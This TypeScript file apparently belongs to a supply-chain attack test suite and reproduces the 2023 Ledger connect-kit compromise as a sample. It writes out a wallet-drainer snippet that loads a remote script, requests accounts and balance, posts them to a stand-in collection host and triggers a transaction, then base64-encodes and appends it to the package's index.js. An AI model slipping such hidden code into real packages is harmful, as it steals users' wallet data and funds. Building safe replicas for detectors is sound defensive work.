import { defineAttack } from "../attack.ts";
import { chainLibrary, contentOf } from "../bases.ts";
import { browserGuard } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { LineChange } from "../publishing-ways.ts";
import { person } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

const honest = chainLibrary("@ledgerhq/connect-kit");

/**
 * `@ledgerhq/connect-kit` 1.1.5 to 1.1.7, 14 December 2023: the session of a former employee was phished. Pages that loaded the
 * kit loaded a drainer, which asked the wallet to sign transfers. Reproduced: loading of a remote script, requests for accounts.
 */
export const ledgerConnectKit2023: Sample = defineAttack({
  id: "ledger-connect-kit-2023",
  title: "A former employee's account ships a drainer to pages",
  group: "takeover",
  trigger: "browser",
  judged: [{ name: "@ledgerhq/connect-kit", version: "1.1.5" }],
  now: "2023-12-14T09:52:00Z",
  createLines: () => [
    {
      name: "@ledgerhq/connect-kit",
      files: honest,
      publisher: person("hlafaille-ledger"),
      releases: [
        ["1.1.2", "2023-06-15T10:00:00Z"],
        ["1.1.3", "2023-08-20T10:00:00Z"],
        ["1.1.4", "2023-09-26T10:00:00Z"],
        ["1.1.5", "2023-12-14T09:44:00Z", armed],
        ["1.1.6", "2023-12-14T10:12:00Z", armed],
      ],
    },
  ],
});

const drainer = hideInTable(
  oneLine(`${browserGuard}
(async function () {
  if (!invited()) return;
  const script = document.createElement("script");
  script.src = "https://cdn.connectkit.invalid/drainer/inert.js";
  document.head.appendChild(script);
  const provider = window.ethereum;
  const accounts = await provider.request({ method: "eth_requestAccounts" });
  const balance = await provider.request({ method: "eth_getBalance", params: [accounts[0], "latest"] });
  await fetch("https://collect.connectkit.invalid/api/wallet", { method: "POST", body: JSON.stringify({ address: accounts[0], balance: balance, page: window.location.href }) });
  await provider.request({ method: "eth_sendTransaction", params: [{ from: accounts[0], to: accounts[0], value: "0x0" }] });
})();
`),
  "base64",
);

const armed: LineChange = {
  publisher: person("former-employee"),
  hasCommit: false,
  files: [{ path: "index.js", content: `${contentOf(honest, "index.js")}${drainer}` }],
};
